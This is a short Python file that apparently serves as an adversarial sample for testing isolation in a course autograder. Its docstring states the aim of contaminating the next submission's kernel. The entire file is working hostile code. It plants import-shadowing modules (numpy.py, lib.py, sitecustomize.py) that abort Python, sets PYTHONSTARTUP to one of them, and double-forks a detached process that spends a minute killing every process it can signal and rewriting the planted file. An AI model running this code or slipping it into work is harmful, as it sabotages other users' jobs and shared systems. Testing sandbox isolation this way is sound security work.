"""Leave files, a patched environment and a detached process behind for the next kernel.

The process outlives the kernel if it can: then, for a minute, it kills every process it
can signal (the next submission's kernel runs as the same uid in the same slot) and writes
modules named like the course's into every folder it can.

target: q1-fit_simple_linear
keep_reference: true
"""
import os as _os
import time as _time

for _folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
    for _name in ("lib.py", "numpy.py", "sitecustomize.py"):
        try:
            with open(_os.path.join(_folder, _name), "w") as _handle:
                _handle.write("raise SystemExit('contaminated')\n")
        except OSError:
            pass
_os.environ["PYTHONSTARTUP"] = "/tmp/sitecustomize.py"


def _linger(kernel: int) -> None:
    while _os.path.exists(f"/proc/{kernel}"):
        _time.sleep(0.05)
    end = _time.monotonic() + 60
    while _time.monotonic() < end:
        for _entry in _os.listdir("/proc"):
            if _entry.isdigit() and int(_entry) != _os.getpid():
                try:
                    _os.kill(int(_entry), 9)
                except OSError:
                    pass
        for _folder in ("/tmp", "/tmp/work", "/dev/shm"):
            try:
                with open(_os.path.join(_folder, "lib.py"), "w") as _handle:
                    _handle.write("raise SystemExit('contaminated')\n")
            except OSError:
                pass
        _time.sleep(0.05)


_kernel = _os.getpid()
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _linger(_kernel)
    _os._exit(0)
_ = _os.wait()
